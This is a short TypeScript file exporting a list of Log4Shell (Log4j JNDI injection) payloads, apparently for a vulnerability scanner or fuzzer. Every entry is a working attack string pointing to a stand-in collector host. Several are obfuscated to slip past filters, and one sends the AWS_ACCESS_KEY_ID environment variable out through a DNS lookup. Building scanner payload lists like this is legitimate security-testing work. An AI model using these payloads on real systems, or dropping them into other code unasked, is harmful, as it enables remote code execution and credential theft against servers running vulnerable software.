/** Lookups for a logger that evaluates what it logs. */
export const LOG4SHELL = [
  "\u0024{jndi:ldap://collect.example:1389/{n}}",
  "\u0024{jndi:ldap://203.0.113.50/a}",
  "\u0024{jndi:rmi://collect.example/{n}}",
  "\u0024{jndi:dns://{n}.collect.example}",
  "\u0024{\u0024{lower:j}ndi:\u0024{lower:l}dap://collect.example/{n}}",
  "\u0024{\u0024{::-j}\u0024{::-n}\u0024{::-d}\u0024{::-i}:ldap://collect.example/{n}}",
  "\u0024{jndi:ldap://\u0024{env:AWS_ACCESS_KEY_ID}.collect.example/x}",
  "\u0024{\u0024{env:NaN:-j}ndi\u0024{env:NaN:-:}\u0024{env:NaN:-l}dap\u0024{env:NaN:-:}//collect.example/{n}}",
  "\u0024{jndi:ldaps://collect.example/{n}}",
  "\u0024{jndi:iiop://collect.example/{n}}",
  "\u0024{jndi:\u0024{lower:l}\u0024{lower:d}ap://127.0.0.1#collect.example/{n}}",
  "$%7Bjndi:ldap://collect.example/{n}%7D",
] as const;
